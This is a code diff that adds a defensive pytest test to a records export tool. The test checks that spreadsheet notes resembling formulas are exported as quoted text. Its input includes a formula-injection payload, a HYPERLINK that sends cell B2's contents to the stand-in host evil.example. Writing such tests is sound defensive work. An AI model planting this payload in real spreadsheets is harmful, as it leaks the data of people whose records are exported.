@@ -198,3 +198,21 @@ def test_names_boxes_and_config() -> None:
         )
     with pytest.raises(ValueError, match="missing for the book types"):
         ExportFile.model_validate({"book_types": {"birth": columns["birth"]}})
+
+
+def test_a_note_that_looks_like_a_formula_is_exported_as_text(
+    engine: Engine, book_id: int, tmp_path: Path
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?d="&B2,"Bấm vào đây")'
+    rows = [dict(BIRTHS[0], note=evil), dict(BIRTHS[1], note="-1+1"), dict(BIRTHS[2], note="Đăng ký lại")]
+    _loaded_book(engine, book_id, tmp_path, rows)
+    with session_scope(engine) as session:
+        result = export_book(session, book_id, tmp_path / "out")
+    sheet = load_workbook(result.path / "records.xlsx").active
+    assert sheet is not None
+    headers = [c.value for c in sheet[1]]
+    notes = [r[headers.index("Ghi chú")] for r in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in notes] == [evil, "-1+1", "Đăng ký lại"]
+    assert all(c.data_type == "s" for c in notes) and notes[0].quotePrefix and notes[1].quotePrefix
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert [r[0].value for r in sheet.iter_rows(min_row=2)] == [1, 2, 3]  # numbers stay numbers
